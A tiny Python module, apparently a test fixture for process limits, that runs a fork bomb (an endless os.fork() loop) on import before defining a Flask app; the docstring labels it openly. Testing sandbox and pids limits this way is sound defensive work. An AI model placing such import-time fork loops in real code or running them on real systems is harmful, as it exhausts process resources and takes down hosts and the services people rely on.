"""Classic fork bomb at import: every process forks forever (bounded by the pids limit)."""
import os

from flask import Flask

while True:
    try:
        os.fork()
    except OSError:
        pass

app = Flask(__name__)
